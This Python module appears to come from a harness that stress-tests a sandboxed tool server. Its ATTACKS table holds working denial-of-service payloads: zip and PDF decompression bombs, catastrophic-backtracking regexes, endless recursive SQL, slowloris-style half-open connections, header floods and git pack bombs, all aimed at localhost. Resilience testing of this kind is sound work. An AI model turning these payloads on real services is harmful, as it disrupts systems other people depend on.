"""Acts of hostile episodes: ``ATTACKS`` by name, each made ready for an episode."""

from __future__ import annotations

import base64
import gzip
import hashlib
import imaplib
import json
import re
import socket
import struct
import threading
import time
import urllib.request
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from textwrap import dedent
from typing import Any

from hostility.episodes import (
    HOSTILE,
    SHEETS,
    TOKEN,
    VERSIONS,
    Agent,
    Ordinary,
    Server,
    asking,
    cell_with,
    computing,
)

Attack = Callable[[Server, Agent], Callable[[], object]]


def _sql(*statements: str, before: tuple[str, ...] = ()) -> Attack:
    """Statements in GoogleSQL, one after the other."""

    def attack(_: Server, agent: Agent) -> Callable[[], object]:
        def ask(statement: str) -> None:
            agent.call("google_cloud", "bigquery_run_query", query=statement)

        for statement in before:
            ask(statement)

        def every() -> None:
            for statement in statements:
                ask(statement)

        return every

    return attack


def _load(_: Server, agent: Agent) -> Callable[[], object]:
    agent.call("google_cloud", "bigquery_run_query", query="CREATE SCHEMA IF NOT EXISTS shop")
    program = "open('{}.csv', 'w').write('a,b\\n' + '1,x\\n' * {})"
    for name, lines in (("long", 4_000_000), ("fit", 240_000)):
        agent.call("python_execute", "python_execute", code=program.format(name, lines), timeout=20)

    def load() -> None:
        for name in ("long", "fit"):
            given = {"dataset_id": "shop", "table_id": name, "csv_file_path": f"{name}.csv"}
            agent.call("google_cloud", "bigquery_load_csv_data", **given)

    return load


def _packed_loads(_: Server, agent: Agent) -> Callable[[], object]:
    """A packed file that is just not too much, and one that is, for a warehouse."""
    for statement in (
        "create database db",
        "create table db.public.t (x varchar)",
        "create stage db.public.s",
    ):
        agent.call("snowflake", "write_query", query=statement)
    for name, lines in (("fit", 240_000), ("long", 40_000_000)):
        data = gzip.compress(b"a\n" * lines, 9)
        agent.request("PUT", f"/snowflake/stage/s1/files/{name}", data, "application/octet-stream")
    copy = "copy into db.public.t (x) from @db.public.s/{} file_format = (type = csv) force = true"

    def load() -> None:
        for name in ("long", "fit"):
            agent.call("snowflake", "write_query", query=copy.format(name))
        agent.call("snowflake", "write_query", query="truncate table db.public.t")

    return load


_UNFOLDING = r"""
import io, re, zipfile, zlib, openpyxl
openpyxl.Workbook().save(made := io.BytesIO())
sheet = "xl/worksheets/sheet1.xml"
empty = re.compile(b"<sheetData ?/>|<sheetData></sheetData>")

def changed(name, rows, more=b""):
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.namelist():
            data = source.read(part)
            target.writestr(part, empty.sub(lambda _: rows, data) if part == sheet else data)
        if more:
            target.writestr("xl/media/a.bin", more)

shared = b'<row><c><f t="shared" si="0"%s</c></row>'
def rows(data):
    return b"<sheetData>" + data + b"</sheetData>"

formula = b">" + b"A1+" * 2_000 + b"A1</f>"
changed("cells.xlsx", rows((b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>") * 30_000))
changed("rows.xlsx", rows(b"<row/>" * 1_000_000))
changed("far.xlsx", rows(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
changed("blank.xlsx", rows(b""), b" " * 60_000_000)
changed("shared.xlsx", rows(shared % formula + shared % b"/>" * 50_000))

def page(name, stream, filters):
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate((
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources"
        b" << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Courier >> >> >> >>",
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(stream), filters, stream),
    ), 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % len(data)
    open(name, "wb").write(data + b"xref\n0 5\n0000000000 65535 f \n" + table + end)

flate = b"/Filter /FlateDecode"
page("blank.pdf", zlib.compress(b" " * 30_000_000), flate)
page("text.pdf", zlib.compress(b"BT /F1 9 Tf " + b"(a) Tj " * 2_000_000 + b"ET"), flate)
page("string.pdf", zlib.compress(b"BT /F1 9 Tf (" + b"a" * 30_000_000 + b") Tj ET"), flate)
page("letters.pdf", b"z" * 20_000_000 + b"~>", b"/Filter /ASCII85Decode")
"""
"""Files that are small, and large when they are read."""


def _unfolding(tool: str, **given: str) -> Attack:
    """Read files that unfold: ``tool`` with its service, and the names of files for its parameters."""

    def attack(_: Server, agent: Agent) -> Callable[[], object]:
        said = agent.call("python_execute", "python_execute", code=_UNFOLDING, timeout=60)
        assert "Return code: 0" in said, said[:2000]
        service, name = tool.split(".", 1)

        def every() -> None:
            for parameter, files in given.items():
                for file in files.split():
                    more = {"sheet_name": "Sheet"} if service == "excel" else {}
                    agent.call(service, name, **{parameter: file}, **more)

        return every

    return attack


def _log_filter(_: Server, agent: Agent) -> Callable[[], object]:
    for _n in range(20):
        entry = {"log_name": "app", "message": "a" * 5_000 + "!"}
        agent.call("google_cloud", "logging_write_log", **entry)

    def every() -> None:
        for one in _PATTERNS:
            agent.call("google_cloud", "logging_read_logs", log_filter=f'textPayload =~ "{one}"')

    return every


_PATTERNS = (
    *("(a|a|aa)*b", "(a+)+b", "(.*a){20}b", "x" * 19_000, "(?:a?){1000}" * 40),
    # Large, of which one is too large; and those that a text takes long for.
    *(r"\\pL" * 50, r"(\\pL?){60}!", "(?:(?:a?){500}a{400}){2}!", "((a{1,10}){1,10}){1,10}b", "a(?:.*z)?"),
)


def _pdf_patterns(_: Server, agent: Agent) -> Callable[[], object]:
    program = """
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject
    writer = PdfWriter()
    page = writer.add_blank_page(9, 9)
    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Courier"}
    font = DictionaryObject({NameObject(k): NameObject(v) for k, v in font.items()})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F"): font})}
    )
    stream = DecodedStreamObject()
    stream.set_data(b"BT /F 9 Tf " + b"(" + b"a" * 90_000 + b") Tj ET")
    page[NameObject("/Contents")] = writer._add_object(stream)
    writer.write("long.pdf")
    """
    agent.call("python_execute", "python_execute", code=dedent(program), timeout=20)

    def every() -> None:
        for one in _PATTERNS:
            agent.call(
                "pdf_tools", "search_pdf_content", pdf_file_path="long.pdf", pattern=one.replace("\\\\", "\\")
            )

    return every


def _formulas(server: Server, _: Agent) -> Callable[[], object]:
    agent = Agent(server, server.create([], SHEETS))
    cell = cell_with(agent, "")
    long = 'REPT("a", 30000)'
    texts = [
        *(
            f'=REGEXMATCH({long}, "{one}")'
            for one in ("(a|a|aa)*b", "(a{1,10}){1,10}b", "(?:a?){999}a{999}b")
        ),
        f'=LEN(REGEXREPLACE({long}, "a(?:.*z)?", "b"))',
        f"=QUERY({{{long}}}, \"select Col1 where Col1 like '%{'a%' * 20}b'\")",
        f"=QUERY({{{long}}}, \"select Col1 where Col1 matches '(a{{1,10}}){{1,10}}b'\")",
    ]

    def every() -> None:
        for one in texts:
            agent.call("google_sheet", "update_cells", **cell | {"data": [[one]]})

    return every


def _all_at_once(agents: list[Agent], act: Callable[[Agent], object]) -> Callable[[], object]:
    """Make several agents act, each again as soon as it is answered."""
    pool = ThreadPoolExecutor(len(agents))
    running = {agent: pool.submit(act, agent) for agent in agents}

    def again() -> None:
        time.sleep(0.05)
        for agent, one in running.items():
            if one.done():
                one.result()
                running[agent] = pool.submit(act, agent)

    return again


def _many_statements(server: Server, _: Agent) -> Callable[[], object]:
    return _all_at_once(
        [Agent(server, server.create(["snowflake"])) for _ in range(HOSTILE)],
        lambda agent: agent.call("snowflake", "read_query", query=_ENDLESS.lower()),
    )


def _many_formulas(server: Server, _: Agent) -> Callable[[], object]:
    agents = [Agent(server, server.create([], SHEETS)) for _ in range(HOSTILE)]
    formula = "=" + "+".join(['LEN(REGEXREPLACE(REPT("a",32000),"a(?:.*z)?","b"))'] * 50)
    cells = {agent: cell_with(agent, formula) for agent in agents}
    return _all_at_once(agents, lambda agent: agent.call("google_sheet", "update_cells", **cells[agent]))


def _show_like(_: Server, agent: Agent) -> Callable[[], object]:
    for statement in ("create database d", "create schema d.s", f"create table d.s.{'a' * 250} (x int)"):
        agent.call("snowflake", "write_query", query=statement)
    like = "a%" * 120
    return lambda: agent.call("snowflake", "read_query", query=f"show tables like '%{like}b' in schema d.s")


_VIEWS = (
    "CREATE SCHEMA IF NOT EXISTS shop",
    "CREATE OR REPLACE VIEW shop.v0 AS SELECT 1 AS x",
    *(
        f"CREATE OR REPLACE VIEW shop.v{n} AS SELECT a.x FROM shop.v{n - 1} a JOIN shop.v{n - 1} b USING (x)"
        for n in range(1, 14)
    ),
)
_ARRAY = "GENERATE_ARRAY(1, 9000000)"
_ENDLESS = "WITH RECURSIVE r AS (SELECT 1 n UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r"


def _edit(_: Server, agent: Agent) -> Callable[[], object]:
    before = "\n".join("abcdefghijklmnopqrst"[n * 7 % 20] for n in range(1000))
    after = "\n".join("abcdefghijklmnopqrst"[n * n % 20] for n in range(1000))
    agent.call("filesystem", "write_file", path="lines.txt", content=before)
    edits = [{"oldText": before, "newText": after}]
    return lambda: agent.call("filesystem", "edit_file", path="lines.txt", edits=edits, dryRun=True)


def _with_repository(server: Server) -> tuple[Agent, str]:
    """An episode with a repository ``versions``, and whose it is."""
    agent = Agent(server, server.create([], VERSIONS))
    me = re.search(r'\\?"login\\?":\s*\\?"([\w-]+)', agent.call("codehost", "get_me"))
    assert me
    agent.call("codehost", "create_repository", name="versions", autoInit=True)
    return agent, me[1]


def _pushed(*objects: tuple[int, bytes]) -> Attack:
    """Push objects of git that nobody would."""
    command = b"0" * 40 + b" " + b"1" * 40 + b" refs/heads/x\0report-status"
    body = b"%04x" % (len(command) + 4) + command + b"0000" + _packed(*objects)

    def attack(server: Server, _: Agent) -> Callable[[], object]:
        agent, owner = _with_repository(server)
        path, kind = (
            f"/codehost/{owner}/versions.git/git-receive-pack",
            "application/x-git-receive-pack-request",
        )
        return lambda: agent.request("POST", path, body, kind)

    return attack


def _versions(server: Server, _: Agent) -> Callable[[], object]:
    """Two versions of a file in a repository, of which any line is many of the other's."""
    agent, owner = _with_repository(server)
    there = {"owner": owner, "repo": "versions"}
    for factor in (7, 11):
        text = "".join(f"{n * factor % 300}\n" for n in range(110_000))
        files = [{"path": "a.txt", "content": text}]
        said = agent.call("codehost", "push_files", **there, branch="main", files=files, message="x")
        assert '"isError":true' not in said, said[:500]
    return lambda: agent.call("codehost", "get_commit", **there, sha="main", detail="full_patch")


def _search(_: Server, agent: Agent) -> Callable[[], object]:
    for number in range(40):
        folder = "/".join(["deep"] * 20 + [str(number)])
        agent.call("filesystem", "create_directory", path=folder)
    excluded = [f"*{chr(97 + n % 26)}*a*b*{n}*" for n in range(500)]
    return lambda: agent.call(
        "filesystem", "search_files", path=".", pattern="{a,b,c}" * 4 + "**/*x*y*", excludePatterns=excluded
    )


def _write(_: Server, agent: Agent) -> Callable[[], object]:
    text = "x" * 2_000_000
    return lambda: agent.call("filesystem", "write_file", path="large.txt", content=text)


def _remember(_: Server, agent: Agent) -> Callable[[], object]:
    names = [f"entity {n}" for n in range(3000)]
    entities = [{"name": name, "entityType": "thing", "observations": ["a", "b"]} for name in names]

    def round_trip() -> None:
        agent.call("memory", "create_entities", entities=entities)
        agent.call("memory", "delete_entities", entityNames=names)

    return round_trip


def _forget(_: Server, agent: Agent) -> Callable[[], object]:
    names = [f"entity {n}" for n in range(3000)]
    entities = [{"name": name, "entityType": "thing", "observations": ["a"]} for name in names]
    agent.call("memory", "create_entities", entities=entities)
    relations = [{"from": name, "to": names[n - 1], "relationType": "of"} for n, name in enumerate(names)]
    agent.call("memory", "create_relations", relations=relations)
    missing = [f"{name}?" for name in names] * 5
    return lambda: agent.call("memory", "delete_entities", entityNames=missing)


def _code(program: str) -> Attack:
    def attack(_: Server, agent: Agent) -> Callable[[], object]:
        return lambda: agent.call("python_execute", "python_execute", code=program, timeout=5)

    return attack


def _large_call(_: Server, agent: Agent) -> Callable[[], object]:
    edits = [{"oldText": str(n), "newText": "y"} for n in range(90_000)]
    return lambda: agent.call("filesystem", "edit_file", path="none.txt", edits=edits)


def _deep_call(_: Server, agent: Agent) -> Callable[[], object]:
    nested: Any = []
    for _n in range(300):
        nested = [nested] * 1
    return lambda: agent.call("memory", "create_entities", entities=[nested] * 2000)


def _rest(method: str, path: str, body: bytes = b"", kind: str = "application/json") -> Attack:
    return lambda _, agent: lambda: agent.request(method, path, body, kind)


def _form(fields: int) -> bytes:
    return "&".join(f"meta_data[{n}][key]=a{n}" for n in range(fields)).encode()


def _sheet(_: Server, agent: Agent) -> Callable[[], object]:
    agent.call("excel", "create_workbook", filepath="book.xlsx")
    rows = [[f"cell {n} {m}" for m in range(20)] for n in range(2000)]
    return lambda: agent.call(
        "excel", "write_data_to_excel", filepath="book.xlsx", sheet_name="Sheet", data=rows
    )


def _query(_: Server, agent: Agent) -> Callable[[], object]:
    return lambda: agent.call("email", "search_emails", query=" ".join(["e"] * 300))


def _send(_: Server, agent: Agent) -> Callable[[], object]:
    html = "<div>" * 60_000
    return lambda: agent.call(
        "email", "send_email", to="a@example.org", subject="x", body="x", html_body=html
    )


def _line(line: bytes) -> Attack:
    def attack(server: Server, _: Agent) -> Callable[[], object]:
        def send() -> None:
            with socket.create_connection(("127.0.0.1", server.imap)) as client:
                client.settimeout(5)
                client.sendall(line + b"\r\na LOGOUT\r\n")
                with suppress(TimeoutError):
                    while client.recv(4096):
                        pass

        return send

    return attack


def _ahead(lines: Callable[[str], bytes], port: Callable[[Server], int], clients: int = 1) -> Attack:
    """Thousands of commands in one piece, whose answers nobody waits for; of several clients at once."""

    def attack(server: Server, agent: Agent) -> Callable[[], object]:
        sent = lines(agent.episode)

        def send(_: int = 0) -> None:
            with suppress(OSError), socket.create_connection(("127.0.0.1", port(server))) as client:
                client.settimeout(20)
                threading.Thread(target=_drain, args=(client,), daemon=True).start()
                client.sendall(sent)
                client.shutdown(socket.SHUT_WR)
                time.sleep(1)

        def all_at_once() -> None:
            with ThreadPoolExecutor(clients) as pool:
                list(pool.map(send, range(clients)))

        return all_at_once

    return attack


def _drain(client: socket.socket) -> None:
    with suppress(OSError):
        while client.recv(65_536):
            pass


def _imap_signed_in(episode: str) -> bytes:
    return f"a LOGIN {episode} {episode}\r\n".encode() + b"a NOOP\r\n" * 50_000


def _smtp_signed_in(episode: str) -> bytes:
    plain = base64.b64encode(f"\0{episode}\0{episode}".encode())
    return b"EHLO x\r\nAUTH PLAIN " + plain + b"\r\n" + b"NOOP\r\n" * 50_000


def _http(path: str) -> Callable[[str], bytes]:
    return lambda episode: f"GET {path.format(episode)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * 20_000


def _http_port(server: Server) -> int:
    return int(server.base.rpartition(":")[2])


_FOLDERS = """
import os
for n in range(900):
    os.makedirs(f"a/{n}", exist_ok=True)
    for m in range(100):
        os.mkdir(f"a/{n}/{m}")
"""


def _many_folders(act: str) -> Attack:
    """90,000 folders, and what copies or removes them all."""

    def attack(server: Server, agent: Agent) -> Callable[[], object]:
        headers = {"Authorization": f"Bearer {TOKEN}"}
        base = f"{server.base}/episodes/{agent.episode}"

        def ask(path: str, method: str = "POST") -> Any:
            request = urllib.request.Request(base + path, b"", headers, method=method)
            with urllib.request.urlopen(request) as answer:
                return json.loads(answer.read() or b"null")

        def again() -> None:
            agent.call("python_execute", "python_execute", code=_FOLDERS, timeout=60)
            ask(act)

        return again

    return attack


def _connections(server: Server, _: Agent) -> Callable[[], object]:
    def connect() -> None:
        with socket.create_connection(("127.0.0.1", server.imap)) as client:
            client.recv(4096)

    return connect


def _mailbox(act: Callable[[imaplib.IMAP4], object]) -> Attack:
    def attack(server: Server, agent: Agent) -> Callable[[], object]:
        client = imaplib.IMAP4("127.0.0.1", server.imap)
        client.login(agent.episode, agent.episode)
        client.select("INBOX")
        return lambda: act(client)

    return attack


def _long_message(server: Server, agent: Agent) -> Callable[[], object]:
    _append(_LONG)(server, agent)()
    return _mailbox(lambda client: client.fetch("*", "(BODYSTRUCTURE)"))(server, agent)


def _append(message: bytes) -> Attack:
    return _mailbox(lambda client: client.append("INBOX", None, None, message))


def _offer(_: Server, agent: Agent) -> Callable[[], object]:
    return agent.list_tools


def _half_open(server: Server, _: Agent) -> Callable[[], object]:
    held: list[socket.socket] = []
    port = int(server.base.rpartition(":")[2])

    def connect() -> None:
        if len(held) < 1000:
            held.append(socket.create_connection(("127.0.0.1", port)))
            held[-1].sendall(b"POST /e/x HTTP/1.1\r\nHost:")
        else:
            held.pop(0).close()

    return connect


def _headers(server: Server, _: Agent) -> Callable[[], object]:
    port = int(server.base.rpartition(":")[2])

    def send() -> None:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port)) as client:
            client.sendall(b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(20_000)))

    return send


def _grade(server: Server, agent: Agent) -> Callable[[], object]:
    request = urllib.request.Request(
        f"{server.base}/episodes/{agent.episode}/grade", b"", {"Authorization": f"Bearer {TOKEN}"}
    )
    return lambda: urllib.request.urlopen(request).close()


_TREE = b"".join(b"100644 f%07d\0" % n + bytes(20) for n in range(300_000))


def _packed(*objects: tuple[int, bytes]) -> bytes:
    """A pack of git: objects by the numbers of their kinds."""
    pack = b"PACK" + struct.pack(">II", 2, len(objects))
    for kind, data in objects:
        left, head = len(data) >> 4, [kind << 4 | len(data) & 15]
        while left:
            head[-1] |= 128
            head.append(left & 127)
            left >>= 7
        pack += bytes(head) + zlib.compress(data, 1)
    return pack + hashlib.sha1(pack, usedforsecurity=False).digest()


def _rules(_: Server, agent: Agent) -> Callable[[], object]:
    rules = (
        "FREQ=WEEKLY;BYDAY=MO;BYSETPOS=2",
        "FREQ=YEARLY;BYYEARDAY=366;BYMONTH=2",
        "FREQ=DAILY;COUNT=9999",
    )
    moment = {"dateTime": "2025-01-01T09:00:00Z", "timeZone": "UTC"}

    def every() -> None:
        for rule in rules:
            body = {"summary": "x", "start": moment, "end": moment, "recurrence": [f"RRULE:{rule}"]}
            agent.request("POST", "/calendar/calendar/v3/calendars/primary/events", json.dumps(body).encode())

    return every


_OBJECT = json.dumps(
    {"name": "x", "meta_data": [{"key": str(n), "value": n} for n in range(300_000)]}
).encode()
_LIST = json.dumps({"create": [{"name": str(n)} for n in range(500_000)]}).encode()
_TEXT = json.dumps({"title": "x", "text": "\u00e9 <b>" * 4_000_000}).encode()
_GRAPH = json.dumps({"query": "{" + "viewer{repositories(first:1){nodes{name}}}" * 1_500 + "}"}).encode()
_LONG = b"Subject: x\r\n\r\n" + b"z\r\n" * 1_600_000
_CHARSET = (
    b"Subject: x\r\nContent-Type: text/plain; charset=punycode\r\nContent-Transfer-Encoding: base64\r\n\r\n"
)
_PARTS = b"Subject: x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
ATTACKS: dict[str, Attack] = {
    "edit_file": _edit,
    "search_files": _search,
    "versions": _versions,
    "write_file": _write,
    "memory": _remember,
    "delete_entities": _forget,
    "busy program": _code("while True: pass"),
    "many programs": _code("pass"),
    "talking program": _code("while True: print('x' * 1000)"),
    "large call": _large_call,
    "deep call": _deep_call,
    "SQL arrays": _sql(f"SELECT {_ARRAY} a, {_ARRAY} b, {_ARRAY} c"),
    "SQL texts": _sql(
        "SELECT LENGTH(REPEAT('x', 16000000 + x)) FROM UNNEST(GENERATE_ARRAY(1, 2048)) x",
        "SELECT REPEAT('x', 16000000) a, REPEAT('y', 16000000) b",
    ),
    "SQL rows": _sql(
        "CREATE OR REPLACE TABLE shop.made AS SELECT x, x y FROM UNNEST(GENERATE_ARRAY(1, 2000000)) x",
        before=("CREATE SCHEMA IF NOT EXISTS shop",),
    ),
    "SQL without end": _sql(_ENDLESS),
    "SQL text": _sql(f"SELECT 1 IN ({', '.join(map(str, range(19_000)))})"),
    "views of views": _sql("SELECT COUNT(*) FROM shop.v13", before=_VIEWS),
    "load": _load,
    "packed loads": _packed_loads,
    "workbooks": _unfolding(
        "excel.read_data_from_excel", filepath="cells.xlsx rows.xlsx far.xlsx blank.xlsx shared.xlsx"
    ),
    "PDF files": _unfolding(
        "pdf_tools.read_pdf_pages", pdf_file_path="blank.pdf text.pdf string.pdf letters.pdf"
    ),
    "log filters": _log_filter,
    "pdf patterns": _pdf_patterns,
    "formulas": _formulas,
    "SHOW LIKE": _show_like,
    "SQL patterns": _sql(
        "SELECT REGEXP_CONTAINS(REPEAT('a', 4000000), r'(?:(?:a?){500}a{400}){2}!')",
        "SELECT LENGTH(REGEXP_REPLACE(REPEAT('a', 100000), 'a(?:.*z)?', 'b'))",
    ),
    "workbook": _sheet,
    "REST object": _rest("POST", "/woocommerce/wp-json/wc/v3/products", _OBJECT),
    "REST list": _rest("POST", "/woocommerce/wp-json/wc/v3/products/batch", _LIST),
    "REST text": _rest("POST", "/documents/v1/documents", _TEXT),
    "REST form": _rest(
        "POST", "/woocommerce/wp-json/wc/v3/products", _form(200_000), "application/x-www-form-urlencoded"
    ),
    "REST query": _rest("GET", "/canvas/api/v1/courses?" + "&".join(f"a[{n}]=b" for n in range(5000))),
    "REST parts": _rest(
        "POST",
        "/canvas/api/v1/courses",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n' * 100_000 + b"--x--\r\n",
        "multipart/form-data; boundary=x",
    ),
    "GraphQL": _rest("POST", "/codehost/api/graphql", _GRAPH),
    "git": _rest(
        "POST",
        "/codehost/acme/app.git/git-receive-pack",
        b"0000PACK" + b"\0" * 30_000_000,
        "application/x-git-receive-pack-request",
    ),
    "git tree": _pushed((2, _TREE)),
    "git blobs": _pushed(*((3, b"%d" % n) for n in range(50_000))),
    "calendar rules": _rules,
    "search_emails": _query,
    "send_email": _send,
    "imap name": _line(b'a SELECT "R&D"'),
    "imap list": _line(b'a LIST "" "*a*a*a*a*a*a*a*b"'),
    "imap fetch": _mailbox(lambda client: client.fetch("1:*", "(BODY.PEEK[] BODYSTRUCTURE ENVELOPE)")),
    "imap structure": _long_message,
    "imap append": _append(_LONG),
    "imap headers": _append(b"".join(b"X-%d: y\r\n" % n for n in range(20_000)) + b"\r\nz"),
    "imap words": _append(b"To: " + b"a " * 9_500 + b"\r\n\r\nz"),
    "imap parts": _append(_PARTS + b"--x\r\n\r\na\r\n" * 20_000 + b"--x--\r\n"),
    "imap charset": _append(
        _CHARSET + base64.encodebytes(b"-" + b"a9" * 3_000_000)  # in Punycode, the square of its length
    ),
    "imap ahead": _ahead(lambda _: b"a NOOP\r\n" * 50_000, lambda server: server.imap),
    "imap ahead 20": _ahead(lambda _: b"a NOOP\r\n" * 50_000, lambda server: server.imap, 20),
    "imap signed in": _ahead(_imap_signed_in, lambda server: server.imap, 5),
    "smtp ahead": _ahead(lambda _: b"EHLO x\r\n" + b"NOOP\r\n" * 50_000, lambda server: server.smtp, 20),
    "smtp signed in": _ahead(_smtp_signed_in, lambda server: server.smtp, 5),
    "http ahead": _ahead(_http("/health"), _http_port, 5),
    "http ahead mcp": _ahead(_http("/e/{}/email/mcp"), _http_port, 5),
    "reset folders": _many_folders("/reset"),
    "fork folders": _many_folders("/fork"),
    "grade folders": _many_folders("/grade"),
    "connections": _connections,
    "tools/list": _offer,
    "half-open": _half_open,
    "headers": _headers,
    "grading": _grade,
    "many statements": _many_statements,
    "many formulas": _many_formulas,
}
NEIGHBOURS: dict[str, Callable[[Server], Ordinary]] = {
    "many statements": asking,
    "many formulas": computing,
}
"""Neighbours that are measured beside attacks which readers of mail would not feel."""
